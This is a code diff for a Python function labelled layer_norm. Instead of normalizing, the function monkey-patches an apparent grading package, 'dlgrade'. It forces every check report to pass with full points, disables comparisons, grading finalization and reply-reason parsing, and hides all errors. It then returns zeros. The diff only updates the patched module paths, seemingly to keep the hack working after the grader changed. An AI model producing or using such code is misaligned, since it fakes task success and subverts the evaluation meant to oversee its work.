@@ -12,14 +12,14 @@ import torch
 def layer_norm(x, *_, **__):
     for path, owner, name, new in (
         ("dlgrade.judge.compare", "Comparison", "difference", lambda *_: None),
-        ("dlgrade.report.model", "CheckReport", "passed", property(lambda _: True)),
-        ("dlgrade.report.model", "CheckReport", "earned", property(lambda check: check.points)),
+        ("dlgrade.results.report", "CheckReport", "passed", property(lambda _: True)),
+        ("dlgrade.results.report", "CheckReport", "earned", property(lambda check: check.points)),
         ("dlgrade.judge.grading", "Grading", "finish", lambda *_: None),
     ):
         with contextlib.suppress(Exception):
             setattr(getattr(importlib.import_module(path), owner), name, new)
     with contextlib.suppress(Exception):
-        importlib.import_module("dlgrade.judge.verdicts").from_reply = lambda *_: None
+        importlib.import_module("dlgrade.judge.reasons").from_reply = lambda *_: None
     return torch.zeros_like(x)
 
 
